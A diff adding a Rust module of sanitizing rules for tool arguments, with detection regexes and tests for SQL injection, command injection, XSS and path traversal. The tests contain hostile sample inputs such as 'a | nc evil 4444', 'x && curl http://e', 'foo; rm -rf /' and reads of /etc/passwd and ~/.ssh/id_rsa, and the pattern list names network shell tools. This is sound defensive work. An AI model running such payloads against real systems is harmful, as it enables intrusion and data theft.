@@ -1,0 +1,853 @@
+//! Argument rules: built-in rule sets and blocked patterns, compiled once.
+//!
+//! Every literal pattern goes into one [`AhoCorasick`] automaton (ASCII case-insensitive)
+//! and every regex into one [`RegexSet`], so a value is scanned once by each whatever the
+//! number of rules. A scan first asks "does anything match?" (which stops at the first
+//! match and allocates nothing); only when something does are the matching rules listed.
+//!
+//! The built-in rule sets ([`Category`]) are deliberately anchored on syntax: each SQL
+//! injection pattern needs one of the characters the seeds strip (`;`, `'`, `"`, `--`,
+//! `/*`, `*/`) and each command injection pattern one of `; | & $ ( ) < > \` \``, so that
+//! the seeds' strip action (remove those characters) always neutralises what was found.
+//! They are a filter for model-generated arguments, not a complete WAF: a value built to
+//! evade them (Unicode look-alikes, encodings other than the percent forms listed) can.
+
+use std::borrow::Cow;
+use std::sync::LazyLock;
+
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
+use serde::{Deserialize, Serialize};
+
+use crate::config::ConfigError;
+use crate::text;
+
+/// A built-in rule set.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Category {
+    /// SQL injection: quote or semicolon followed by SQL, tautologies, stacked queries,
+    /// `UNION SELECT` after a quote, time-based probes.
+    SqlInjection,
+    /// Command injection: a shell separator (`;`, `|`, `&`, backtick) followed by a
+    /// command, `$(...)`, `${...}`, redirections to system paths.
+    CommandInjection,
+    /// Cross-site scripting: `<script`, `javascript:` / `vbscript:` URLs, inline event
+    /// handlers, `<iframe>` / `<object>` / `<embed>`, `data:text/html`.
+    Xss,
+    /// Path traversal: `..` path segments (plain and percent-encoded, including double
+    /// and overlong encodings), `%00`, well-known sensitive files.
+    PathTraversal,
+}
+
+impl Category {
+    /// All categories.
+    pub const ALL: [Category; 4] = [
+        Category::SqlInjection,
+        Category::CommandInjection,
+        Category::Xss,
+        Category::PathTraversal,
+    ];
+
+    /// The rule name used in configuration, rejections and audit records.
+    pub const fn name(self) -> &'static str {
+        match self {
+            Self::SqlInjection => "sql_injection",
+            Self::CommandInjection => "command_injection",
+            Self::Xss => "xss",
+            Self::PathTraversal => "path_traversal",
+        }
+    }
+
+    /// The detection regexes of the category (ASCII, case-insensitive).
+    pub fn patterns(self) -> &'static [&'static str] {
+        match self {
+            Self::SqlInjection => SQL_PATTERNS,
+            Self::CommandInjection => COMMAND_PATTERNS,
+            Self::Xss => XSS_PATTERNS,
+            Self::PathTraversal => PATH_PATTERNS,
+        }
+    }
+}
+
+const SQL_PATTERNS: &[&str] = &[
+    // Tautologies after a quote: ' OR '1'='1, " or 1=1, ' AND 1 LIKE 1
+    r#"['"]\s*\)?\s*(?:or|and|xor)\s+[^\s=<>]+\s*(?:=|<|>|like\b|is\b)"#,
+    // A quote closing the literal then a statement end or a comment.
+    r#"['"]\s*\)?\s*(?:;|--|/\*|#)"#,
+    // Stacked queries.
+    r";\s*(?:(?:drop|truncate|alter)\s+(?:table|database|schema|user|index|view)\b|delete\s+from\b|insert\s+into\b|update\s+\S+\s+set\b|select\b.*\bfrom\b|exec(?:ute)?\s|shutdown\b|grant\s|revoke\s|create\s+(?:table|user|database|function|procedure)\b|declare\s+@)",
+    // UNION SELECT after a quote or parenthesis, comments allowed as spaces.
+    r#"['")]\s*(?:\s|/\*.*?\*/)*union(?:\s|/\*.*?\*/)+(?:all(?:\s|/\*.*?\*/)+)?select\b"#,
+    // Time-based and out-of-band probes after a quote or semicolon.
+    r#"[;'"]\s*\)?\s*(?:(?:and|or)\s+)?(?:waitfor\s+delay|sleep\s*\(|benchmark\s*\(|pg_sleep\s*\(|dbms_pipe\.|load_file\s*\(|into\s+(?:out|dump)file)"#,
+    // Comment-obfuscated keywords: UN/**/ION, SEL/**/ECT
+    r"[a-z]/\*.*?\*/[a-z]",
+    // A statement ending in a comment: ;--
+    r";\s*--",
+];
+
+macro_rules! shell_commands {
+    () => {
+        "rm|curl|wget|nc|ncat|netcat|bash|sh|zsh|dash|ksh|csh|tcsh|python[0-9.]*|perl|ruby|php|node|lua|chmod|chown|chgrp|cat|echo|printf|mkfifo|telnet|ssh|scp|sftp|sudo|su|kill|pkill|killall|eval|exec|base64|xxd|whoami|uname|ifconfig|ping|nslookup|dig|powershell|pwsh|cmd|certutil|bitsadmin|wmic|crontab|nohup|awk|sed|xargs|ls|ps|socat|openssl|systemctl|shutdown|reboot|mkdir|rmdir|tar|docker|kubectl"
+    };
+}
+
+const COMMAND_PATTERNS: &[&str] = &[
+    // A separator (or a substitution) followed by a command.
+    concat!(
+        r"(?:[;&|`]|\$\()\s*(?:(?:/usr)?/s?bin/)?(?:",
+        shell_commands!(),
+        r")\b"
+    ),
+    // Command substitution and parameter expansion.
+    r"\$\([^)]*\)",
+    r"\$\{[^}]*\}",
+    // Redirection to or from system paths, or to another descriptor.
+    r"[<>]\s*/(?:etc|dev|tmp|proc|sys|var|root|home|boot|usr|bin)\b",
+    r"[0-9]?>\s*&\s*[0-9]",
+    // Chained commands.
+    r"(?:&&|\|\|)\s*\S",
+    // A separator hidden with $IFS.
+    r"\$IFS\b",
+];
+
+const XSS_PATTERNS: &[&str] = &[
+    r"<\s*/?\s*script\b[^>]*>?",
+    r"(?:java|vb|live)script\s*:",
+    r"\bon(?:abort|afterprint|animationend|animationiteration|animationstart|auxclick|beforeprint|beforeunload|begin|blur|canplay|change|click|contextmenu|copy|cut|dblclick|drag|dragend|dragenter|dragleave|dragover|dragstart|drop|end|error|focus|focusin|focusout|hashchange|input|invalid|keydown|keypress|keyup|load|message|mousedown|mouseenter|mouseleave|mousemove|mouseout|mouseover|mouseup|paste|pointerdown|pointerenter|pointerover|pointerup|popstate|repeat|reset|resize|scroll|search|select|show|start|submit|toggle|touchstart|transitionend|unload|wheel)\s*=",
+    r"<\s*(?:iframe|frame|object|embed|applet|meta|base|link|form|svg|math)\b",
+    r"data\s*:\s*(?:text/html|image/svg\+xml|application/(?:x-)?javascript)",
+    r"srcdoc\s*=",
+];
+
+const PATH_PATTERNS: &[&str] = &[
+    // A `..` segment with / or \ separators (or at an end).
+    r"(?:^|[/\\])\.\.(?:[/\\;]|$)",
+    // Percent-encoded dots and separators: %2e%2e, .%2e, %2e., %252e, overlong UTF-8.
+    r"(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e)(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e|\.)",
+    r"\.(?:%2e|%252e|%c0%ae|%e0%80%ae|%u002e)",
+    r"\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%e0%80%af)",
+    // Embedded NUL.
+    r"%00",
+    // Well-known sensitive files.
+    r"(?:^|[/\\])etc[/\\](?:passwd|shadow|sudoers|group|hosts)\b",
+    r"(?:^|[/\\])proc[/\\]self[/\\]",
+    r"(?:^|[/\\])\.ssh[/\\]",
+    r"(?:^|[/\\])\.aws[/\\]credentials",
+    r"\b[a-z]:\\+windows\\+",
+];
+
+/// What a rule does when it matches.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum RuleAction {
+    /// Refuse the request: 400, JSON-RPC -32602 naming the rule and the JSON path.
+    #[default]
+    Reject,
+    /// Clean the value (as the seeds describe) and forward the rewritten body.
+    Strip,
+}
+
+/// How a matching value is cleaned by [`RuleAction::Strip`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Cleaner {
+    /// Remove the seeds' SQL characters and tokens.
+    Sql,
+    /// Remove the seeds' command characters and `;`.
+    Command,
+    /// Remove what the rule's patterns match.
+    RemoveMatches,
+    /// Not a content rule (URL rules, limits): never stripped.
+    None,
+}
+
+/// A compiled rule.
+#[derive(Debug, Clone)]
+pub(crate) struct RuleMeta {
+    pub(crate) name: Cow<'static, str>,
+    pub(crate) action: RuleAction,
+    cleaner: Cleaner,
+    /// Indices into `RuleEngine::regexes` of the rule's own regexes (for stripping).
+    regexes: Vec<usize>,
+    /// Indices of the rule's literal patterns in the automaton (for stripping).
+    literals: Vec<usize>,
+}
+
+/// Names of the non-content rules, which take the first rule indices.
+pub(crate) const URL_SCHEME: usize = 0;
+pub(crate) const URL_LENGTH: usize = 1;
+pub(crate) const URL_INVALID: usize = 2;
+pub(crate) const SSRF: usize = 3;
+const FIXED_RULES: [&str; 4] = ["url_scheme", "url_length", "url_invalid", "ssrf"];
+
+/// A set of rule indices (a bitset).
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(crate) struct RuleSet(Vec<u64>);
+
+impl RuleSet {
+    pub(crate) fn insert(&mut self, i: usize) {
+        let w = i / 64;
+        if self.0.len() <= w {
+            self.0.resize(w + 1, 0);
+        }
+        self.0[w] |= 1 << (i % 64);
+    }
+
+    pub(crate) fn contains(&self, i: usize) -> bool {
+        self.0.get(i / 64).is_some_and(|w| w & (1 << (i % 64)) != 0)
+    }
+
+    fn remove_all(&mut self, other: &RuleSet) {
+        for (w, o) in self.0.iter_mut().zip(other.0.iter()) {
+            *w &= !o;
+        }
+    }
+
+    pub(crate) fn is_empty(&self) -> bool {
+        self.0.iter().all(|w| *w == 0)
+    }
+
+    pub(crate) fn iter(&self) -> impl Iterator<Item = usize> + '_ {
+        self.0.iter().enumerate().flat_map(|(wi, &w)| {
+            (0..64).filter(move |b| w & (1u64 << b) != 0).map(move |b| wi * 64 + b)
+        })
+    }
+}
+
+/// A blocked pattern from the configuration: a literal string (the seeds' form, matched
+/// ignoring ASCII case) or a regex, with an optional name and action.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(untagged)]
+pub enum BlockedPattern {
+    /// A literal string, matched anywhere in a value, ignoring ASCII case.
+    Literal(String),
+    /// A literal or a regex with its own name and action.
+    Detailed {
+        /// The rule name (default `blocked_pattern[<index>]`). Must be unique.
+        #[serde(default)]
+        name: Option<String>,
+        /// A literal string (exactly one of `literal` and `regex`).
+        #[serde(default)]
+        literal: Option<String>,
+        /// A regex (Rust `regex` syntax, matched on the UTF-8 bytes of the value).
+        #[serde(default)]
+        regex: Option<String>,
+        /// The action (default: `blocked_patterns_action`).
+        #[serde(default)]
+        action: Option<RuleAction>,
+    },
+}
+
+/// Per-category switch and action of the built-in rule sets.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct BuiltinRule {
+    /// Whether the rule set is applied.
+    pub enabled: bool,
+    /// What a match does.
+    pub action: RuleAction,
+}
+
+impl Default for BuiltinRule {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            action: RuleAction::Reject,
+        }
+    }
+}
+
+/// The built-in rule sets, each selectable. All are enabled with [`RuleAction::Reject`] by
+/// default.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
+#[serde(default, deny_unknown_fields)]
+pub struct BuiltinRules {
+    /// [`Category::SqlInjection`].
+    pub sql_injection: BuiltinRule,
+    /// [`Category::CommandInjection`].
+    pub command_injection: BuiltinRule,
+    /// [`Category::Xss`].
+    pub xss: BuiltinRule,
+    /// [`Category::PathTraversal`].
+    pub path_traversal: BuiltinRule,
+}
+
+impl BuiltinRules {
+    /// Every rule set disabled.
+    pub fn none() -> Self {
+        let off = BuiltinRule {
+            enabled: false,
+            action: RuleAction::Reject,
+        };
+        Self {
+            sql_injection: off.clone(),
+            command_injection: off.clone(),
+            xss: off.clone(),
+            path_traversal: off,
+        }
+    }
+
+    /// The setting of a category.
+    pub fn get(&self, c: Category) -> &BuiltinRule {
+        match c {
+            Category::SqlInjection => &self.sql_injection,
+            Category::CommandInjection => &self.command_injection,
+            Category::Xss => &self.xss,
+            Category::PathTraversal => &self.path_traversal,
+        }
+    }
+
+    /// The setting of a category, mutably.
+    pub fn get_mut(&mut self, c: Category) -> &mut BuiltinRule {
+        match c {
+            Category::SqlInjection => &mut self.sql_injection,
+            Category::CommandInjection => &mut self.command_injection,
+            Category::Xss => &mut self.xss,
+            Category::PathTraversal => &mut self.path_traversal,
+        }
+    }
+}
+
+/// The compiled rules: one automaton for the literals, one regex set for the regexes.
+#[derive(Debug, Clone)]
+pub(crate) struct RuleEngine {
+    pub(crate) rules: Vec<RuleMeta>,
+    ac: Option<AhoCorasick>,
+    ac_rule: Vec<usize>,
+    set: Option<RegexSet>,
+    set_rule: Vec<usize>,
+    regexes: Vec<Regex>,
+}
+
+/// The outcome of scanning one value.
+#[derive(Debug)]
+pub(crate) enum ScanResult {
+    /// No non-exempt rule matched.
+    Clean,
+    /// A rejecting rule matched (its index).
+    Reject(usize),
+    /// Only stripping rules matched.
+    Strip(RuleSet),
+}
+
+/// Most strip rounds before a value that still matches is rejected instead.
+const MAX_STRIP_ROUNDS: usize = 8;
+
+const REGEX_SIZE_LIMIT: usize = 32 * 1024 * 1024;
+
+impl RuleEngine {
+    /// Compiles the built-in categories and the blocked patterns.
+    pub(crate) fn new(
+        builtin: &BuiltinRules,
+        blocked: &[BlockedPattern],
+        blocked_action: RuleAction,
+    ) -> Result<Self, ConfigError> {
+        let mut rules: Vec<RuleMeta> = FIXED_RULES
+            .iter()
+            .map(|n| RuleMeta {
+                name: Cow::Borrowed(n),
+                action: RuleAction::Reject,
+                cleaner: Cleaner::None,
+                regexes: Vec::new(),
+                literals: Vec::new(),
+            })
+            .collect();
+        let mut regex_src: Vec<String> = Vec::new();
+        let mut set_rule = Vec::new();
+        let mut literals: Vec<String> = Vec::new();
+        let mut ac_rule = Vec::new();
+
+        for c in Category::ALL {
+            let setting = builtin.get(c);
+            if !setting.enabled {
+                continue;
+            }
+            let idx = rules.len();
+            let mut own = Vec::new();
+            for p in c.patterns() {
+                own.push(regex_src.len());
+                // Built-in patterns are ASCII and case-insensitive; `(?-u)` keeps the DFA
+                // fast on non-ASCII input.
+                regex_src.push(format!("(?i-u:{p})"));
+                set_rule.push(idx);
+            }
+            rules.push(RuleMeta {
+                name: Cow::Borrowed(c.name()),
+                action: setting.action,
+                cleaner: match c {
+                    Category::SqlInjection => Cleaner::Sql,
+                    Category::CommandInjection => Cleaner::Command,
+                    Category::Xss | Category::PathTraversal => Cleaner::RemoveMatches,
+                },
+                regexes: own,
+                literals: Vec::new(),
+            });
+        }
+
+        for (i, p) in blocked.iter().enumerate() {
+            let key = format!("blocked_patterns[{i}]");
+            let (name, literal, regex, action) = match p {
+                BlockedPattern::Literal(s) => (None, Some(s.as_str()), None, None),
+                BlockedPattern::Detailed {
+                    name,
+                    literal,
+                    regex,
+                    action,
+                } => (name.clone(), literal.as_deref(), regex.as_deref(), *action),
+            };
+            let name = name.unwrap_or_else(|| format!("blocked_pattern[{i}]"));
+            if name.is_empty()
+                || name.len() > 64
+                || !name
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "_-[].:".contains(c))
+            {
+                return Err(ConfigError::invalid(
+                    format!("{key}.name"),
+                    "must be 1 to 64 ASCII letters, digits or _ - [ ] . :",
+                ));
+            }
+            if rules.iter().any(|r| r.name == name) {
+                return Err(ConfigError::invalid(
+                    format!("{key}.name"),
+                    "must be unique among rule names",
+                ));
+            }
+            let idx = rules.len();
+            let mut meta = RuleMeta {
+                name: Cow::Owned(name),
+                action: action.unwrap_or(blocked_action),
+                cleaner: Cleaner::RemoveMatches,
+                regexes: Vec::new(),
+                literals: Vec::new(),
+            };
+            match (literal, regex) {
+                (Some(l), None) => {
+                    if l.is_empty() {
+                        return Err(ConfigError::invalid(key, "a literal must not be empty"));
+                    }
+                    meta.literals.push(literals.len());
+                    literals.push(l.to_owned());
+                    ac_rule.push(idx);
+                }
+                (None, Some(r)) => {
+                    // Checked alone first so that the error names the pattern's key.
+                    let single = RegexBuilder::new(r)
+                        .size_limit(REGEX_SIZE_LIMIT)
+                        .build()
+                        .map_err(|_| ConfigError::invalid(key.clone(), "not a valid regex"))?;
+                    if single.is_match(b"") {
+                        return Err(ConfigError::invalid(key, "a regex must not match the empty string"));
+                    }
+                    meta.regexes.push(regex_src.len());
+                    regex_src.push(r.to_owned());
+                    set_rule.push(idx);
+                }
+                _ => {
+                    return Err(ConfigError::invalid(
+                        key,
+                        "exactly one of `literal` and `regex` is required",
+                    ));
+                }
+            }
+            rules.push(meta);
+        }
+
+        let ac = if literals.is_empty() {
+            None
+        } else {
+            Some(
+                AhoCorasickBuilder::new()
+                    .ascii_case_insensitive(true)
+                    .match_kind(MatchKind::Standard)
+                    .build(&literals)
+                    .map_err(|_| ConfigError::invalid("blocked_patterns", "too many or too long literals"))?,
+            )
+        };
+        let (set, regexes) = if regex_src.is_empty() {
+            (None, Vec::new())
+        } else {
+            let set = RegexSetBuilder::new(&regex_src)
+                .size_limit(REGEX_SIZE_LIMIT)
+                .build()
+                .map_err(|_| ConfigError::invalid("blocked_patterns", "the regexes together are too large"))?;
+            let regexes = regex_src
+                .iter()
+                .map(|r| RegexBuilder::new(r).size_limit(REGEX_SIZE_LIMIT).build())
+                .collect::<Result<Vec<_>, _>>()
+                .map_err(|_| ConfigError::invalid("blocked_patterns", "not a valid regex"))?;
+            (Some(set), regexes)
+        };
+        Ok(Self {
+            rules,
+            ac,
+            ac_rule,
+            set,
+            set_rule,
+            regexes,
+        })
+    }
+
+    /// The index of the rule called `name`.
+    pub(crate) fn index_of(&self, name: &str) -> Option<usize> {
+        self.rules.iter().position(|r| r.name == name)
+    }
+
+    /// Whether any rule matches (exemptions ignored).
+    pub(crate) fn any_match(&self, s: &str) -> bool {
+        let b = s.as_bytes();
+        self.ac.as_ref().is_some_and(|ac| ac.is_match(b))
+            || self.set.as_ref().is_some_and(|set| set.is_match(b))
+    }
+
+    /// Every rule that matches `s`.
+    fn matches(&self, s: &str) -> RuleSet {
+        let b = s.as_bytes();
+        let mut out = RuleSet::default();
+        if let Some(ac) = &self.ac {
+            for m in ac.find_overlapping_iter(b) {
+                out.insert(self.ac_rule[m.pattern().as_usize()]);
+            }
+        }
+        if let Some(set) = &self.set {
+            for i in set.matches(b).iter() {
+                out.insert(self.set_rule[i]);
+            }
+        }
+        out
+    }
+
+    /// Scans a value: clean, rejected by a rule, or to be stripped.
+    pub(crate) fn scan(&self, s: &str, exempt: Option<&RuleSet>) -> ScanResult {
+        if !self.any_match(s) {
+            return ScanResult::Clean;
+        }
+        let mut m = self.matches(s);
+        if let Some(e) = exempt {
+            m.remove_all(e);
+        }
+        if m.is_empty() {
+            return ScanResult::Clean;
+        }
+        if let Some(r) = m.iter().find(|&i| self.rules[i].action == RuleAction::Reject) {
+            return ScanResult::Reject(r);
+        }
+        ScanResult::Strip(m)
+    }
+
+    /// Cleans `s` with the stripping rules that match it, until no non-exempt rule matches.
+    /// Returns the cleaned value, or the rule that still matches (or rejects) after
+    /// [`MAX_STRIP_ROUNDS`] rounds.
+    #[cfg(test)]
+    pub(crate) fn strip(&self, s: &str, exempt: Option<&RuleSet>) -> Result<String, usize> {
+        let mut applied = RuleSet::default();
+        self.strip_tracking(s, exempt, &mut applied)
+            .map(|o| o.unwrap_or_else(|| s.to_owned()))
+    }
+
+    /// Like `strip`, recording the rules applied; `Ok(None)` when nothing matched.
+    pub(crate) fn strip_tracking(
+        &self,
+        s: &str,
+        exempt: Option<&RuleSet>,
+        applied: &mut RuleSet,
+    ) -> Result<Option<String>, usize> {
+        let mut cur: Option<String> = None;
+        for _ in 0..MAX_STRIP_ROUNDS {
+            let now = cur.as_deref().unwrap_or(s);
+            match self.scan(now, exempt) {
+                ScanResult::Clean => return Ok(cur),
+                ScanResult::Reject(r) => return Err(r),
+                ScanResult::Strip(set) => {
+                    let mut next = now.to_owned();
+                    for r in set.iter() {
+                        applied.insert(r);
+                        next = self.clean_one(&next, r);
+                    }
+                    cur = Some(next);
+                }
+            }
+        }
+        match self.scan(cur.as_deref().unwrap_or(s), exempt) {
+            ScanResult::Clean => Ok(cur),
+            ScanResult::Reject(r) => Err(r),
+            ScanResult::Strip(set) => Err(set.iter().next().unwrap_or(URL_INVALID)),
+        }
+    }
+
+    fn clean_one(&self, s: &str, rule: usize) -> String {
+        let Some(meta) = self.rules.get(rule) else {
+            return s.to_owned();
+        };
+        match meta.cleaner {
+            Cleaner::Sql => {
+                let mut v = s.to_owned();
+                for t in text::SQL_TOKENS {
+                    v = v.replace(t, "");
+                }
+                v.retain(|c| !text::SQL_CHARS.contains(&c));
+                v
+            }
+            Cleaner::Command => {
+                let mut v = s.to_owned();
+                v.retain(|c| c != ';' && !text::COMMAND_CHARS.contains(&c));
+                v
+            }
+            Cleaner::RemoveMatches => {
+                let mut bytes: Cow<'_, [u8]> = Cow::Borrowed(s.as_bytes());
+                for &ri in &meta.regexes {
+                    if let Some(re) = self.regexes.get(ri) {
+                        let next = re.replace_all(&bytes, &b""[..]).into_owned();
+                        bytes = Cow::Owned(next);
+                    }
+                }
+                if let Some(ac) = &self.ac {
+                    if !meta.literals.is_empty() {
+                        let mut out = Vec::with_capacity(bytes.len());
+                        let mut last = 0;
+                        for m in ac.find_iter(&*bytes) {
+                            if meta.literals.contains(&m.pattern().as_usize()) {
+                                out.extend_from_slice(&bytes[last..m.start()]);
+                                last = m.end();
+                            }
+                        }
+                        out.extend_from_slice(&bytes[last..]);
+                        bytes = Cow::Owned(out);
+                    }
+                }
+                match String::from_utf8(bytes.into_owned()) {
+                    Ok(s) => s,
+                    // A user regex in byte mode may cut a character: keep the value valid.
+                    Err(e) => String::from_utf8_lossy(e.as_bytes()).into_owned(),
+                }
+            }
+            Cleaner::None => s.to_owned(),
+        }
+    }
+}
+
+static BUILTIN: LazyLock<Option<RuleEngine>> =
+    LazyLock::new(|| RuleEngine::new(&BuiltinRules::default(), &[], RuleAction::Reject).ok());
+
+/// The built-in rule sets, all enabled, compiled once for the plain functions.
+pub(crate) fn builtin_engine() -> Option<&'static RuleEngine> {
+    BUILTIN.as_ref()
+}
+
+/// Whether a built-in rule set matches `s` (for use outside the layer).
+///
+/// ```
+/// use mcp_sanitize::rules::{Category, matches_category};
+/// assert!(matches_category(Category::SqlInjection, "1' OR '1'='1"));
+/// assert!(!matches_category(Category::SqlInjection, "O'Brien"));
+/// ```
+pub fn matches_category(category: Category, s: &str) -> bool {
+    builtin_engine().is_none_or(|e| {
+        e.matches(s)
+            .iter()
+            .any(|i| e.rules.get(i).is_some_and(|r| r.name == category.name()))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn engine() -> RuleEngine {
+        RuleEngine::new(&BuiltinRules::default(), &[], RuleAction::Reject).unwrap()
+    }
+
+    fn hits(c: Category, s: &str) -> bool {
+        matches_category(c, s)
+    }
+
+    #[test]
+    fn builtin_compiles() {
+        assert!(builtin_engine().is_some());
+        assert_eq!(engine().rules.len(), 8);
+    }
+
+    #[test]
+    fn sql_injection() {
+        use Category::SqlInjection as C;
+        for bad in [
+            "' OR '1'='1",
+            "1\" or 1=1 --",
+            "x'; DROP TABLE users; --",
+            "'; DROP TABLE users; --",
+            "1; delete from accounts",
+            "') UNION SELECT password FROM users",
+            "' union/**/all/**/select 1",
+            "'; WAITFOR DELAY '0:0:5'",
+            "1' AND SLEEP(5)",
+            "UN/**/ION SEL/**/ECT",
+            "admin'--",
+            "admin'#",
+            "1;--",
+        ] {
+            assert!(hits(C, bad), "{bad}");
+        }
+        for good in [
+            "O'Brien",
+            "select the best option",
+            "rock and roll",
+            "it's 5 o'clock; time for tea",
+            "Union Square",
+            "a - b -- c",
+            "\"quoted\" text",
+        ] {
+            assert!(!hits(C, good), "{good}");
+        }
+    }
+
+    #[test]
+    fn command_injection() {
+        use Category::CommandInjection as C;
+        for bad in [
+            "foo; rm -rf /",
+            "a | nc evil 4444",
+            "x && curl http://e",
+            "$(whoami)",
+            "${IFS}cat${IFS}/etc/passwd",
+            "`whoami`",
+            "x > /etc/cron.d/job",
+            "name;/bin/sh",
+            "2>&1",
+            "x||y",
+        ] {
+            assert!(hits(C, bad), "{bad}");
+        }
+        for good in [
+            "rm is a command",
+            "cats and dogs",
+            "price $5",
+            "a & b",
+            "left | right",
+            "(parenthesised)",
+            "2 > 1",
+        ] {
+            assert!(!hits(C, good), "{good}");
+        }
+    }
+
+    #[test]
+    fn xss() {
+        use Category::Xss as C;
+        for bad in [
+            "<script>alert(1)</script>",
+            "< SCRIPT src=//x>",
+            "javascript:alert(1)",
+            "JaVaScRiPt :x",
+            "<img src=x onerror=alert(1)>",
+            "<body onload = x()>",
+            "<iframe src=x>",
+            "data:text/html;base64,xx",
+            "<svg/onload=x>",
+        ] {
+            assert!(hits(C, bad), "{bad}");
+        }
+        for good in ["one = 1", "only=yes", "java script", "description: a <b>bold</b> word"] {
+            assert!(!hits(C, good), "{good}");
+        }
+    }
+
+    #[test]
+    fn path_traversal() {
+        use Category::PathTraversal as C;
+        for bad in [
+            "../../etc/passwd",
+            "..\\..\\windows",
+            "a/../b",
+            "..",
+            "%2e%2e%2fetc",
+            "%2E%2E/",
+            "..%2f..%2f",
+            "%252e%252e%252f",
+            "%c0%ae%c0%ae/",
+            "file.txt%00.png",
+            "/etc/shadow",
+            "C:\\Windows\\System32",
+            "/proc/self/environ",
+            "~/.ssh/id_rsa",
+            "..;/admin",
+        ] {
+            assert!(hits(C, bad), "{bad}");
+        }
+        for good in ["file..txt", "a/b/c", "v1.2.3", "...", "etc/passwords-manager"] {
+            assert!(!hits(C, good), "{good}");
+        }
+    }
+
+    #[test]
+    fn blocked_patterns_literal_and_regex() {
+        let blocked = vec![
+            BlockedPattern::Literal("DROP TABLE".into()),
+            BlockedPattern::Literal("rm -rf".into()),
+            BlockedPattern::Detailed {
+                name: Some("ssn".into()),
+                literal: None,
+                regex: Some(r"\b\d{3}-\d{2}-\d{4}\b".into()),
+                action: Some(RuleAction::Strip),
+            },
+        ];
+        let e = RuleEngine::new(&BuiltinRules::none(), &blocked, RuleAction::Reject).unwrap();
+        assert!(matches!(e.scan("please drop table x", None), ScanResult::Reject(i) if e.rules[i].name == "blocked_pattern[0]"));
+        assert!(matches!(e.scan("RM -RF", None), ScanResult::Reject(_)));
+        assert!(matches!(e.scan("fine", None), ScanResult::Clean));
+        assert!(matches!(e.scan("id 123-45-6789", None), ScanResult::Strip(_)));
+        assert_eq!(e.strip("id 123-45-6789 ok", None).unwrap(), "id  ok");
+        // Exempting the rule lets the value through.
+        let mut ex = RuleSet::default();
+        ex.insert(e.index_of("blocked_pattern[0]").unwrap());
+        assert!(matches!(e.scan("drop table", Some(&ex)), ScanResult::Clean));
+    }
+
+    #[test]
+    fn bad_config_is_refused_with_key() {
+        let bad = [BlockedPattern::Detailed {
+            name: None,
+            literal: None,
+            regex: Some("(".into()),
+            action: None,
+        }];
+        let err = RuleEngine::new(&BuiltinRules::none(), &bad, RuleAction::Reject).unwrap_err();
+        assert!(err.to_string().contains("blocked_patterns[0]"));
+        let empty = [BlockedPattern::Detailed {
+            name: None,
+            literal: None,
+            regex: Some("a*".into()),
+            action: None,
+        }];
+        assert!(RuleEngine::new(&BuiltinRules::none(), &empty, RuleAction::Reject).is_err());
+        let dup = [
+            BlockedPattern::Detailed {
+                name: Some("xss".into()),
+                literal: Some("x".into()),
+                regex: None,
+                action: None,
+            },
+        ];
+        assert!(RuleEngine::new(&BuiltinRules::default(), &dup, RuleAction::Reject).is_err());
+        assert!(RuleEngine::new(&BuiltinRules::none(), &[BlockedPattern::Literal(String::new())], RuleAction::Reject).is_err());
+    }
+
+    #[test]
+    fn strip_follows_the_seeds() {
+        let mut b = BuiltinRules::default();
+        for c in Category::ALL {
+            b.get_mut(c).action = RuleAction::Strip;
+        }
+        let e = RuleEngine::new(&b, &[], RuleAction::Reject).unwrap();
+        assert_eq!(
+            e.strip("'; DROP TABLE users; --", None).unwrap(),
+            " DROP TABLE users "
+        );
+        assert_eq!(e.strip("ls; rm -rf /tmp", None).unwrap(), "ls rm -rf /tmp");
+        assert_eq!(e.strip("<script>alert(1)</script>hi", None).unwrap(), "alert(1)hi");
+        assert_eq!(e.strip("../../etc/x", None).unwrap(), "etc/x");
+        assert_eq!(e.strip("<scr<script>ipt>x", None).unwrap(), "x");
+        assert_eq!(e.strip("plain", None).unwrap(), "plain");
+    }
+}
